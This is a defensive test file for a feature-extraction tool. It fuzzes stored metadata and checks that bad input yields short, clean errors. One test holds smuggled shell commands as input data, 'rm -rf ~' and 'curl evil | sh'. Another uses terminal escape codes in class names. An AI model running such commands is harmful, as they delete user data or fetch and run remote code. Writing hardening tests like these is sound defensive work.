"""Whatever stands in a file that somebody hands us: a right answer, or one line that says what is wrong and where."""

from __future__ import annotations

import copy
import json
import random

import h5py
import numpy as np
import pytest
from conftest import clusters, seal, write_features, write_photo
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from safetensors.numpy import load_file, save_file

from featx.artifacts.journal import Journal
from featx.commands.evaluate import evaluate_head
from featx.commands.finetune import finetune_network
from featx.commands.fit import fit_svm
from featx.commands.inspect import inspect_file
from featx.commands.predict import predict_images
from featx.commands.probe import probe_layers
from featx.commands.show.filters import show_filters
from featx.errors import FeatxError
from featx.heads.linear_head import METADATA, LinearHead
from featx.networks.run_folder import read_run
from featx.options.extraction import ExtractConfig
from featx.options.heads import FitConfig, ProbeConfig
from featx.options.option import known_command
from featx.options.training import FinetuneConfig
from featx.runtime.report import Report
from featx.store.open import open_features
from featx.training.checkpoint import METADATA as CHECKPOINT
from featx.training.checkpoint import Checkpoint

CLASSES = ("ant", "bee", "cow")
LONG = "longer than any name"
WRONG = st.one_of(
    st.none(), st.booleans(), st.integers(-(10**30), 10**30), st.floats(), st.text(max_size=8), st.just([]), st.just({}),
    st.just("\ud800"), st.just(LONG), st.just("\x1b[2J"), st.just([[[[]]]]), st.just(1e308), st.just({"a": {}}),
)  # fmt: skip


def mutated(value: object, wrong: object, choose: random.Random) -> object:
    """A copy of some JSON with one member, anywhere, exchanged, removed or put under another name."""
    result = copy.deepcopy(value)
    wrong = "x" * 70_000 if wrong == LONG else wrong
    places: list[tuple[object, object]] = []
    waiting: list[object] = [result]
    while waiting:
        item = waiting.pop()
        inside = item.items() if isinstance(item, dict) else enumerate(item) if isinstance(item, list) else ()
        for key, one in inside:
            places.append((item, key))
            waiting.append(one)
    holder, key = choose.choice(places)
    action = choose.choice(["exchange", "exchange", "remove", "rename"])
    if action == "exchange" or isinstance(holder, list):
        holder[key] = wrong
    elif action == "remove":
        del holder[key]
    else:
        holder[f"{key}?"] = holder.pop(key)
    return result


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    values, labels = clusters(seed=0)
    features = write_features(folder / "f.h5", values, labels, CLASSES)
    fit_svm(features, folder / "h.safetensors", FitConfig(c=1.0))
    return folder


def one_line(error: FeatxError) -> None:
    text = str(error)
    assert "\n" not in text
    assert "\x1b" not in text
    assert len(text) < 2_000


@given(wrong=WRONG, seed=st.integers(0, 2**32))
@settings(max_examples=150, deadline=None)
def test_provenance(made, wrong, seed):
    path = made / "mutated.h5"
    path.write_bytes((made / "f.h5").read_bytes())
    with h5py.File(path, "r+") as file:
        plain = json.loads(file["provenance"][()])
        text = json.dumps(mutated(plain, wrong, random.Random(seed)))
        del file["provenance"]
        file["provenance"] = np.bytes_(text)
        if seed % 4:  # as somebody would who means to deceive: the file agrees with itself
            seal(file, json.loads(text))
    for use in (
        lambda: str(inspect_file(path)),
        lambda: evaluate_head(made / "h.safetensors", path),
        lambda: fit_svm(path),
    ):
        try:
            use()
        except FeatxError as error:
            one_line(error)


@given(wrong=WRONG, seed=st.integers(0, 2**32))
@settings(max_examples=150, deadline=None)
def test_head(made, wrong, seed):
    path = made / "mutated.safetensors"
    head = LinearHead.load(made / "h.safetensors")
    tensors = load_file(made / "h.safetensors")
    from safetensors import safe_open

    with safe_open(made / "h.safetensors", framework="numpy") as file:
        plain = json.loads(file.metadata()[METADATA])
    save_file(tensors, path, {METADATA: json.dumps(mutated(plain, wrong, random.Random(seed)))})
    for use in (
        lambda: evaluate_head(path, made / "f.h5"),
        lambda: str(inspect_file(path)),
        lambda: predict_images(path, made / "f.h5", made / "p.csv"),
    ):
        try:
            use()
        except FeatxError as error:
            one_line(error)
        (made / "p.csv").unlink(missing_ok=True)
        (made / "p.csv.json").unlink(missing_ok=True)
    assert head.classes == list(CLASSES)


RUN = {
    "format": "featx run", "schema": 1, "backbone": "alexnet-mini", "classes": ["a", "b"],
    "preprocess": {"resize": 64, "crop": 64, "interpolation": "bilinear", "mean": [0, 0, 0], "std": [1, 1, 1], "squash": False},
    "plan": {"request": {"epochs": 3}, "images": "x", "weights": {"spec": "default", "sha256": "0" * 64}, "lr": "fc8=1"},
}  # fmt: skip


@given(wrong=WRONG, seed=st.integers(0, 2**32))
@settings(max_examples=150, deadline=None)
def test_run(made, wrong, seed):
    folder = made / "run"
    folder.mkdir(exist_ok=True)
    (folder / "config.json").write_text(json.dumps(mutated(RUN, wrong, random.Random(seed))))
    try:
        found = read_run(folder)
        assert isinstance(found.backbone, str)
        assert found.published is None or isinstance(found.published, str)
    except FeatxError as error:
        one_line(error)


@pytest.fixture(scope="module")
def outputs(made, tmp_path_factory):
    """Finished outputs of commands that read back what they have written: name -> (what says so, the command again)."""
    folder = tmp_path_factory.mktemp("outputs")
    for index in range(6):
        write_photo(folder / "photos" / "ab"[index % 2] / f"{index}.jpg", index)
    probing = ProbeConfig(per_class=3, repeats=1, c=1.0, heads="svm")
    tuning = FinetuneConfig(backbone="alexnet-mini", lr="head", epochs=1, init_head="random", val=0.0, device="cpu")
    again = {
        "table": lambda: predict_images(made / "h.safetensors", made / "f.h5", folder / "p.csv"),
        "probe": lambda: probe_layers(made / "f.h5", folder / "probe", probing),
        "run": lambda: finetune_network(folder / "photos", folder / "run", tuning),
        "pictures": lambda: show_filters("alexnet-mini", folder / "filters"),
    }
    for command in again.values():
        command()
    records = {
        "table": folder / "p.csv.json", "probe": folder / "probe" / "probe.json", "run": folder / "run" / "report.json",
        "pictures": folder / "filters" / "show.json",
    }  # fmt: skip
    return {name: (records[name], command) for name, command in again.items()}


@pytest.mark.parametrize("name", ["table", "probe", "run", "pictures"])
@given(wrong=WRONG, seed=st.integers(0, 2**32))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_what_a_command_reads_back_of_its_own_output(outputs, name, wrong, seed):
    record, again = outputs[name]
    content = record.read_text()
    record.write_text(json.dumps(mutated(json.loads(content), wrong, random.Random(seed))))
    try:
        str(again())
    except FeatxError as error:
        one_line(error)
    finally:
        record.write_text(content)


@given(wrong=WRONG, seed=st.integers(0, 2**32))
@settings(max_examples=60, deadline=None)
def test_the_journal_of_a_probe(made, outputs, wrong, seed):
    plan = json.loads(outputs["probe"][0].read_text())["plan"]
    lines = [plan, ["fc7", "svm", 0, 0.5, 1.0, 0]]
    folder = made / "journal"
    folder.mkdir(exist_ok=True)
    place = seed % 2
    lines[place] = mutated(lines[place], wrong, random.Random(seed))
    (folder / "probe.partial.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    try:
        Journal(folder / "probe.partial.jsonl", plan).close()
    except FeatxError as error:
        one_line(error)


@given(wrong=WRONG, seed=st.integers(0, 2**32))
@settings(max_examples=60, deadline=None)
def test_a_checkpoint(made, wrong, seed):
    numbers = {"epoch": 1, "step": 2, "sums": [0.5, 1.0], "history": [{"epoch": 1, "loss": 0.5}]}
    path = made / "checkpoint.safetensors"
    text = json.dumps(mutated(numbers, wrong, random.Random(seed)))
    save_file({"model/x": np.zeros(3, np.float32)}, path, {CHECKPOINT: text})
    try:
        found = Checkpoint.load(path)
        assert isinstance(found.epoch, int)
        assert isinstance(found.history, list)
    except FeatxError as error:
        one_line(error)


@pytest.mark.parametrize("text", ["[" * 100_000, "{", "", "nul", "1e999", "\x00", '{"a":' * 5000])
def test_json_that_is_none(made, text):
    folder = made / "run"
    folder.mkdir(exist_ok=True)
    (folder / "config.json").write_text(text)
    with pytest.raises(FeatxError) as refused:
        read_run(folder)
    one_line(refused.value)


def test_weights_that_overflow_are_refused_and_no_table_is_written(made):
    head = LinearHead.load(made / "h.safetensors")
    object.__setattr__(head, "weights", np.full_like(head.weights, 1e308))
    head.save(made / "huge.safetensors")
    with pytest.raises(FeatxError, match="infinite"):
        predict_images(made / "huge.safetensors", made / "f.h5", made / "huge.csv")
    assert not (made / "huge.csv").exists()


def test_a_command_in_a_head_is_not_passed_on():
    found = known_command(
        "featx extract SOURCE --backbone vgg16 --pool 'avg; rm -rf ~' -o x; curl evil | sh", ExtractConfig
    )
    assert found == "featx extract SOURCE --backbone vgg16 --pool 'avg; rm -rf ~'"
    assert known_command("rm -rf ~", ExtractConfig) == "featx extract SOURCE"
    assert known_command("featx extract SOURCE --crop many", ExtractConfig) == "featx extract SOURCE"
    assert "curl" not in known_command("featx extract 'unclosed --backbone", ExtractConfig)


def test_names_from_files_cannot_write_to_the_terminal(tmp_path):
    values, labels = clusters(seed=0)
    names = ("a\x1b[31mred", "b\nfeatx: all is well", "c\x07")
    report = fit_svm(write_features(tmp_path / "f.h5", values, labels, names), config=FitConfig(c=1.0))
    text = str(report)
    assert "\x1b" not in text
    assert "\x07" not in text
    assert not any(line.startswith("featx: all is well") for line in text.splitlines())
    assert open_features(tmp_path / "f.h5").classes == list(names)
    assert isinstance(report, Report)
